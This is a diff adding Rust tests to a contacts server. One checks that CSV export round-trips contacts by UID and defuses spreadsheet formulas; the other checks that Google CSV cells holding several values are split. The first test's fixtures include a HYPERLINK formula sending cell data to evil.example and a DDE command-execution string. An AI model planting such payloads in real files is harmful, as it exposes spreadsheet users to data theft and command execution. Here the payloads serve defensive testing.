@@ -497,3 +497,62 @@ async fn the_column_refresh_reaches_cards_stored_before_todays_checks() {
     assert_eq!(alice.report(&alice.book(), "1", query).await.multistatus().hrefs().len(), 1, "CardDAV query");
     s.stop().await;
 }
+
+/// kartei's own CSV export carries the UID, so an edited export imported again updates the same contacts,
+/// also those without an e-mail to match by; cells a spreadsheet would run as formulas are written as text and
+/// read back as they were, while phone numbers stay numbers.
+#[tokio::test]
+async fn csv_export_round_trips_by_uid_and_defuses_formulas() {
+    let s = TestServer::start().await;
+    let alice = s.user("alice").await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let card = format!(
+        "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:paul\r\nFN:Paul Phoneonly\r\nORG:+cmd|' /C calc'!A0\r\n\
+         TITLE:{}\r\nTEL:+49 89 5555\r\nTEL:-5\r\nEND:VCARD\r\n",
+        formula.replace(',', "\\,")
+    );
+    assert!(alice.put(&format!("{}paul.vcf", alice.book()), &card, &[]).await.status.is_success());
+    let r = alice.get("/api/v1/contacts/export?format=csv&purpose=Backup&bom=false").await;
+    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
+    let exported = r.text();
+    let mut reader = csv::Reader::from_reader(exported.as_bytes());
+    let headers = reader.headers().expect("headers").clone();
+    assert_eq!(headers.iter().next_back(), Some("uid"), "{exported}");
+    let row = reader.records().next().expect("a row").expect("csv");
+    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).unwrap_or("").to_string();
+    assert_eq!(cell("uid"), "paul");
+    assert_eq!(cell("title"), format!("'{formula}"), "a formula is written as text");
+    assert_eq!(cell("org"), "'+cmd|' /C calc'!A0");
+    assert_eq!(cell("phone"), "+49 89 5555\n-5", "phone numbers stay as they are");
+
+    // The same file again: nothing changes (the guard comes off on the way in); an edited one updates Paul.
+    let (status, v) = import(&alice, "csv", &exported, "").await;
+    assert_eq!((status, &v["created"], &v["unchanged"]), (200, &Value::from(0), &Value::from(1)), "{v}");
+    assert_eq!(count(&alice).await, 1);
+    let edited = exported.replace("Paul Phoneonly", "Paul Phone");
+    let (status, v) = import(&alice, "csv", &edited, "").await;
+    assert_eq!((status, &v["updated"], &rows(&v)[0]["match"]), (200, &Value::from(1), &Value::from("uid")), "{v}");
+    let stored = stored(&alice, "paul.vcf").await;
+    assert!(stored.contains("FN:Paul Phone\r\n"), "{stored}");
+    assert!(stored.contains(&format!("TITLE:{}", formula.replace(',', "\\,"))), "{stored}");
+    assert_eq!(count(&alice).await, 1);
+}
+
+/// Google Contacts puts several e-mails or phones in one cell, joined by ` ::: `.
+#[tokio::test]
+async fn google_csv_cells_with_several_values_are_split() {
+    let s = TestServer::start().await;
+    let alice = s.user("alice").await;
+    let csv = "Name,E-mail 1 - Type,E-mail 1 - Value,Phone 1 - Type,Phone 1 - Value\r\n\
+               Gina Google,* Work,gina@work.example ::: gina@home.example,Mobile,+1 555 0100 ::: +1 555 0199\r\n";
+    let (status, v) = import(&alice, "csv", csv, "").await;
+    assert_eq!((status, &v["created"]), (200, &Value::from(1)), "{v}");
+    let r = alice.get("/api/v1/contacts?q=gina").await;
+    let list: Value = serde_json::from_slice(&r.body).expect("json");
+    let item = &list["items"][0];
+    let values = |field: &str| -> Vec<String> {
+        item[field].as_array().into_iter().flatten().filter_map(|e| e["value"].as_str().map(str::to_string)).collect()
+    };
+    assert_eq!(values("emails"), ["gina@work.example", "gina@home.example"], "{item}");
+    assert_eq!(values("phones"), ["+1 555 0100", "+1 555 0199"], "{item}");
+}
